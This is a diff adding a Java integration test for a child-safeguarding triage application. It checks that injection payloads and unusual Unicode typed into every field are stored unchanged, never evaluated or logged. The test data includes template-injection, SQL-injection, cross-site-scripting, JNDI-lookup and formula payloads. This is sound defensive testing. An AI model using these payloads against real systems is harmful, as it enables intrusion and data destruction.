@@ -1,0 +1,330 @@
+package org.teestriage.web.api;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.quarkus.test.common.QuarkusTestResource;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.response.Response;
+import jakarta.inject.Inject;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.EnumSet;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Objects;
+import java.util.Set;
+import java.util.TreeSet;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.teestriage.concern.facts.DangerTold;
+import org.teestriage.concern.facts.Facts;
+import org.teestriage.concern.facts.Information;
+import org.teestriage.platform.persistence.Notation;
+import org.teestriage.concern.facts.PhoneCall;
+import org.teestriage.decision.Acknowledgement;
+import org.teestriage.decision.AuthorityDecision;
+import org.teestriage.decision.BreakGlassReview;
+import org.teestriage.decision.CeopDecision;
+import org.teestriage.decision.Close;
+import org.teestriage.decision.Decision;
+import org.teestriage.decision.EmergencyCall;
+import org.teestriage.decision.HandOver;
+import org.teestriage.decision.HubAcceptance;
+import org.teestriage.decision.ImmediateRiskCheck;
+import org.teestriage.decision.InformationReview;
+import org.teestriage.decision.LadoReferral;
+import org.teestriage.decision.PlatformDecision;
+import org.teestriage.decision.PoliceReport;
+import org.teestriage.decision.ReferrerFeedback;
+import org.teestriage.decision.SecondReading;
+import org.teestriage.decision.SocialCareReferral;
+import org.teestriage.decision.Step;
+import org.teestriage.decision.StrategyDiscussion;
+import org.teestriage.decision.ThresholdDecision;
+import org.teestriage.decision.WrittenConcern;
+import org.teestriage.casework.breakglass.BreakGlass;
+import org.teestriage.casework.triage.MoveProposal;
+import org.teestriage.casework.triage.Withdrawal;
+import org.teestriage.workflow.process.TimerBell;
+import org.teestriage.testing.Api;
+import org.teestriage.testing.LogEar;
+import org.teestriage.testing.MovableTime;
+import org.teestriage.testing.MySqlResource;
+
+/** Whatever people type or copy is kept sign for sign and never evaluated: a handle may be the only evidence there is. */
+@QuarkusTest
+@QuarkusTestResource(MySqlResource.class)
+class TextIsEvidenceTest {
+
+    private static final Instant MONDAY_NIGHT = Instant.parse("2026-09-21T20:30:00Z");
+
+    /** Would be 1337 if anything evaluated it. */
+    private static final List<String> CODE = List.of(
+            "${7*191}",
+            "#{7*191}",
+            "{7*191}",
+            "{{7*191}}",
+            "'||(7*191)||'",
+            "'; DROP TABLE concern;-- ",
+            "\" OR \"\"=\"",
+            "<script>alert(7*191)</script>",
+            "<img src=x onerror=alert(1)>",
+            "${jndi:ldap://x.example/a}",
+            "${java:version}",
+            "@{7*191}",
+            "%s%n%x",
+            "\\u0041\\n\\",
+            "=1+1");
+
+    private static final List<String> SIGNS = List.of(
+            "\ud83d\udc67\ud83c\udffd\u200d\ud83d\udc66 \ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f",
+            "ad\u200bmin",
+            "\u202eevil\u202c \u2066isolated\u2069 \u200e\u200f",
+            "re\u0301sume\u0301 r\u00e9sum\u00e9",
+            "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033dalgo",
+            "\ufeffBOM \u00a0nbsp\u3000wide",
+            "\u2028line\u2029paragraph",
+            "\uffff\ufffe\ud83f\udffe",
+            "\u0430lex \u0391lex",
+            "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u4f60\u597d",
+            "\ue000private");
+
+    /** The kind of the timeline entry that tells of an addition of this kind. */
+    private static final Map<String, String> ENTRIES =
+            Map.of("DANGER", "DANGER", "INFORMATION", "INFORMED", "CALL", "CALLED");
+
+    private static final String CODE_LINE = String.join(" ", CODE);
+    private static final String SIGNS_LINE = "  " + String.join(" ", SIGNS) + "  ";
+
+    @Inject
+    MovableTime time;
+
+    @Inject
+    TimerBell bell;
+
+    private OpenApiDocument document;
+    private Filled filled = Filled.with("", "", MONDAY_NIGHT);
+    private LogEar log;
+    private int fields;
+
+    @BeforeEach
+    void listen() {
+        time.set(MONDAY_NIGHT);
+        document = OpenApiDocument.fetched();
+        log = new LogEar();
+    }
+
+    @AfterEach
+    void nothingWasLoggedOrEvaluated() {
+        log.close();
+        time.set(MovableTime.A_TUESDAY_MORNING);
+        System.out.println("TEXT IS EVIDENCE " + fields + " fields");
+        assertThat(log.heard())
+                .noneMatch(line -> line.contains("7*191")
+                        || line.contains("1337")
+                        || line.contains("DROP TABLE")
+                        || line.contains("evil")
+                        || line.contains("Exception"));
+    }
+
+    @Test
+    void codeInEveryFieldIsTextFromRaiseToClose() {
+        everyFieldOfTheWholePath(CODE_LINE, String.join("\r\n\t", CODE));
+    }
+
+    @Test
+    void signsOfEveryScriptInEveryFieldAreKept() {
+        everyFieldOfTheWholePath(SIGNS_LINE, String.join("\n", SIGNS));
+    }
+
+    private void everyFieldOfTheWholePath(String line, String text) {
+        assertThat(line.length()).isLessThanOrEqualTo(300);
+        filled = Filled.with(line, text, Instant.parse("2026-09-21T20:00:00Z"));
+        ObjectNode facts = filled.body(Facts.class);
+        Api.Told concern = Api.as("referrer").raise(facts);
+        String officer = "officer.hartlepool";
+        isKept(facts, concern.seenBy(officer).get("facts"), "facts");
+
+        Map<String, ObjectNode> told = new LinkedHashMap<>();
+        told.put("DANGER", tell(concern, "danger", DangerTold.class));
+        told.put("INFORMED", tell(concern, "inform", Information.class));
+        told.put("CALLED", tell(concern, "called", PhoneCall.class));
+        for (JsonNode added : concern.seenBy(officer).get("added")) {
+            isKept(
+                    sent(
+                            told,
+                            Objects.requireNonNull(ENTRIES.get(added.get("kind").asText()))),
+                    added.get("content"),
+                    "added");
+        }
+
+        time.set(MovableTime.A_TUESDAY_MORNING);
+        bell.ring();
+        Map<String, ObjectNode> made = new LinkedHashMap<>();
+        ObjectNode written = filled.body(WrittenConcern.class);
+        ((ObjectNode) written.get("facts")).remove("call");
+        made.put("written-concern", decide(concern, "referrer", WrittenConcern.class, written));
+        isKept(written.get("facts"), concern.seenBy(officer).get("facts"), "written facts");
+        for (Class<? extends Decision> each :
+                List.of(EmergencyCall.class, HandOver.class, AuthorityDecision.class, InformationReview.class)) {
+            decide(made, concern, officer, each);
+        }
+        told.put("MOVED", tell(concern, "proposeMove", MoveProposal.class));
+        officer = "officer.redcar";
+        for (Class<? extends Decision> each :
+                List.of(HubAcceptance.class, ImmediateRiskCheck.class, ThresholdDecision.class)) {
+            decide(made, concern, officer, each);
+        }
+        decide(made, concern, "manager.redcar", SecondReading.class);
+        told.put("GLASS_BROKEN", tell(concern, "breakGlass", BreakGlass.class));
+        decide(made, concern, "manager.redcar", BreakGlassReview.class);
+        for (Class<? extends Decision> each : List.of(
+                SocialCareReferral.class,
+                StrategyDiscussion.class,
+                PoliceReport.class,
+                CeopDecision.class,
+                PlatformDecision.class,
+                LadoReferral.class,
+                Acknowledgement.class,
+                ReferrerFeedback.class,
+                Close.class)) {
+            decide(made, concern, officer, each);
+        }
+
+        // What only waits where a letter does not get through.
+        Set<Step> beside = EnumSet.of(Step.LETTER_CHASE, Step.LADO_LETTER_CHASE);
+        assertThat(made.keySet())
+                .containsExactlyInAnyOrderElementsOf(EnumSet.complementOf(EnumSet.copyOf(beside)).stream()
+                        .map(Step::id)
+                        .toList());
+        for (JsonNode done : concern.pathSeenBy(officer).get("done")) {
+            isKept(
+                    sent(made, done.get("step").asText()),
+                    done.get("decision"),
+                    done.get("step").asText());
+        }
+        Set<String> kinds = new TreeSet<>();
+        for (JsonNode entry : concern.read(officer, "/timeline").get("entries")) {
+            String kind = entry.get("kind").asText();
+            ObjectNode sent =
+                    kind.equals("DECIDED") ? made.get(entry.get("step").asText()) : told.get(kind);
+            // The danger may also have been told by the raise or a decision, and a decision may have a second entry.
+            if (sent != null
+                    && !kind.equals("DANGER")
+                    && entry.get("details").has(sent.fieldNames().next())) {
+                isKept(sent, entry.get("details"), "timeline " + kind);
+                kinds.add(kind);
+            }
+        }
+        assertThat(kinds).containsExactly("CALLED", "DECIDED", "GLASS_BROKEN", "INFORMED", "MOVED");
+        assertThat(concern.read("auditor", "/verification").get("whole").asBoolean())
+                .isTrue();
+        for (String purpose : List.of("POLICE_REPORT", "CEOP_REPORT")) {
+            assertThat(Api.as(officer)
+                            .get(concern.address() + "/letters/" + purpose + "/1")
+                            .asString())
+                    .as("the letter has the words as they were told")
+                    .contains(line)
+                    .doesNotContain("1337");
+        }
+    }
+
+    @Test
+    void codeThatNamesAHubAColleagueOrAnAuthorityIsRefusedWithoutBeingRepeated() {
+        time.set(MovableTime.A_TUESDAY_MORNING);
+        filled = Filled.with(CODE_LINE, CODE_LINE, Instant.parse("2026-09-21T20:00:00Z"));
+        Api.Told concern = Api.as("referrer").raise(filled.body(Facts.class));
+        String hostile = Notation.write(CODE_LINE);
+        Map<String, Object> refused = Map.of(
+                "/authority-decision/1",
+                filled.choosing("AuthorityDecision.authority", hostile).body(AuthorityDecision.class),
+                "/move",
+                filled.choosing("MoveProposal.toHub", hostile).body(MoveProposal.class),
+                "/steps/police-report/assign",
+                filled.body(StepsResource.Assignment.class));
+
+        refused.forEach((place, body) -> {
+            Response answer = Api.as("manager.hartlepool").post(concern.address() + place, body);
+            assertThat(answer.statusCode()).as(place).isEqualTo(409);
+            assertThat(answer.asString()).doesNotContain("7*191", "1337", "DROP TABLE");
+        });
+    }
+
+    @Test
+    void theReasonForADuplicateIsKept() {
+        time.set(MovableTime.A_TUESDAY_MORNING);
+        filled = Filled.with(SIGNS_LINE, SIGNS_LINE + CODE_LINE, Instant.parse("2026-09-21T20:00:00Z"))
+                .choosing("Urgency.dangerNow", "\"NO\"");
+        Api.Told other = Api.as("referrer").raise(org.teestriage.testing.Bodies.GROOMING);
+        Api.Told twin = Api.as("referrer").raise(org.teestriage.testing.Bodies.GROOMING);
+        ObjectNode withdrawal = filled.choosing("Withdrawal.duplicateOf", Notation.write(other.reference()))
+                .body(Withdrawal.class);
+
+        Api.as("manager.hartlepool")
+                .post(twin.address() + "/duplicate", withdrawal)
+                .then()
+                .statusCode(200);
+
+        for (JsonNode entry : twin.read("manager.hartlepool", "/timeline").get("entries")) {
+            if (entry.get("kind").asText().equals("WITHDRAWN")) {
+                isKept(withdrawal, entry.get("details"), "withdrawn");
+                return;
+            }
+        }
+        throw new AssertionError("no entry tells of the withdrawal");
+    }
+
+    private ObjectNode tell(Api.Told concern, String operation, Class<?> type) {
+        ObjectNode body = filled.body(type);
+        Response answer =
+                Api.as("officer.hartlepool").post(document.operation(operation).address(concern.reference()), body);
+        assertThat(answer.statusCode())
+                .as("%s: %s", operation, answer.asString())
+                .isEqualTo(200);
+        return body;
+    }
+
+    private void decide(Map<String, ObjectNode> made, Api.Told concern, String user, Class<? extends Decision> type) {
+        ObjectNode body = decide(concern, user, type, filled.body(type));
+        made.put(document.operation(Filled.operation(type)).path().split("/", -1)[4], body);
+    }
+
+    private ObjectNode decide(Api.Told concern, String user, Class<? extends Decision> type, ObjectNode body) {
+        String address = document.operation(Filled.operation(type)).address(concern.reference());
+        Response answer = Api.as(user).post(address, body);
+        assertThat(answer.statusCode()).as("%s: %s", address, answer.asString()).isEqualTo(200);
+        return body;
+    }
+
+    private static ObjectNode sent(Map<String, ObjectNode> bodies, String name) {
+        return Objects.requireNonNull(bodies.get(name), name);
+    }
+
+    /** Every text that was sent stands where it was put, sign for sign. */
+    private void isKept(JsonNode sent, JsonNode kept, String what) {
+        List<String> changed = new ArrayList<>();
+        compare(sent, kept, what, changed);
+        assertThat(changed).isEmpty();
+    }
+
+    private void compare(JsonNode sent, JsonNode kept, String place, List<String> changed) {
+        if (sent.isTextual()) {
+            fields++;
+            if (!sent.equals(kept)) {
+                changed.add(place + " was " + sent + " and is " + kept);
+            }
+        }
+        sent.properties()
+                .forEach(each ->
+                        compare(each.getValue(), kept.path(each.getKey()), place + "." + each.getKey(), changed));
+        if (sent.isArray()) {
+            for (int i = 0; i < sent.size(); i++) {
+                compare(sent.get(i), kept.path(i), place + "[" + i + "]", changed);
+            }
+        }
+    }
+}
